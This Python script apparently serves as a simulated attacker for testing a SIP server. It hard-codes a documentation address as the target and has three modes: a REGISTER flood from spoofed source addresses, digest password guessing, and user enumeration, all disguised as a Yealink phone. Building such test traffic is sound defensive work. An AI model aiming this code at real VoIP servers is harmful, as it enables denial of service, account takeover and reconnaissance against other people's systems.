# SPDX-License-Identifier: GPL-2.0-or-later
"""Attackers of our own making, each a process of the net side: floods from one address or from a hundred thousand, and a guesser.

  sender.py flood  --first ADDRESS --sources N --rate N/s --seconds S    REGISTERs as a phone sends them, from N addresses in turn
  sender.py guess  --first ADDRESS --rate N/s --seconds S --user NAME    passwords, one after the other, with digest as RFC 3261 wants it
  sender.py users  --first ADDRESS --rate N/s --seconds S                is there such a user? REGISTERs that try one after the other
"""
import argparse
import hashlib
import ipaddress
import re
import socket
import struct
import time

SERVER = "192.0.2.10"
REALM = "sip.example.org"
IP_PKTINFO = 8  # which Python does not name
FACE = "Yealink SIP-T46S 66.86.0.15"


def register(source, port, user, number, cseq=1, credentials="", face=FACE):
    """A REGISTER like a phone's; `number` makes its branch, tag and Call-ID its own."""
    return (f"REGISTER sip:{REALM} SIP/2.0\r\nVia: SIP/2.0/UDP {source}:{port};branch=z9hG4bK{number:08x}{cseq:x};rport\r\nMax-Forwards: 70\r\n"
            f"From: <sip:{user}@{REALM}>;tag=a{number:x}\r\nTo: <sip:{user}@{REALM}>\r\nCall-ID: {number:x}@{source}\r\nCSeq: {cseq} REGISTER\r\n"
            f"Contact: <sip:{user}@{source}:{port}>\r\n{credentials}User-Agent: {face}\r\nExpires: 300\r\nContent-Length: 0\r\n\r\n").encode()


def due(options):
    """One number after the other, each when its time has come; what a busy machine delayed is made up for."""
    start, number = time.monotonic(), 0
    while (now := time.monotonic() - start) < options.seconds:
        while number <= now * options.rate:
            yield number
            number += 1
        time.sleep(max(0.0, min(number / options.rate, options.seconds) - (time.monotonic() - start)))


def flood(options):
    """The address goes with each datagram (IP_PKTINFO): so one socket speaks for all of them."""
    first = int(ipaddress.ip_address(options.first))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.bind((options.first if options.sources == 1 else "0.0.0.0", options.port))
        for number in due(options):
            source = ipaddress.ip_address(first + number % options.sources)
            info = struct.pack("=I4s4s", 0, source.packed, bytes(4))
            text = register(source, options.port, 1100 + number % 100, number + options.number, face=options.face)
            sender.sendmsg([text], [(socket.IPPROTO_IP, IP_PKTINFO, info)], 0, (SERVER, 5060))


def digest(user, password, nonce):
    def md5(text):
        return hashlib.md5(text.encode()).hexdigest()
    response = md5(f"{md5(f'{user}:{REALM}:{password}')}:{nonce}:{md5(f'REGISTER:sip:{REALM}')}")
    return (f'Authorization: Digest username="{user}", realm="{REALM}", nonce="{nonce}", uri="sip:{REALM}", response="{response}", '
            "algorithm=MD5\r\n")


def conversation(options):
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.bind((options.first, options.port))
    sender.connect((SERVER, 5060))
    sender.settimeout(0.2)
    return sender


def answer(sender):
    """The server's next answer; "" if none comes."""
    try:
        return sender.recv(4096).decode(errors="replace")
    except OSError:
        return ""


def guess(options):
    """The nonce of each answer serves for the next guess."""
    with conversation(options) as sender:
        nonce = ""
        for number in due(options):
            tried = digest(options.user, f"guess-{number}", nonce) if nonce else ""
            sender.send(register(options.first, options.port, options.user, options.number, number + 1, tried, options.face))
            found = re.search(r'nonce="([^"]+)"', answer(sender))
            nonce = found[1] if found else nonce


def users(options):
    """Most of them are unknown to the server."""
    with conversation(options) as sender:
        for number in due(options):
            sender.send(register(options.first, options.port, 3000 + number, options.number + number, face=options.face))
            answer(sender)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=("flood", "guess", "users"))
    parser.add_argument("--first", required=True)
    parser.add_argument("--sources", type=int, default=1)
    parser.add_argument("--rate", type=float, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--user", default="1150")
    parser.add_argument("--port", type=int, default=5070)
    parser.add_argument("--number", type=int, default=0, help="of the first message: so that no two senders send the same")
    parser.add_argument("--face", default=FACE)
    options = parser.parse_args()
    {"flood": flood, "guess": guess, "users": users}[options.attack](options)


if __name__ == "__main__":
    main()
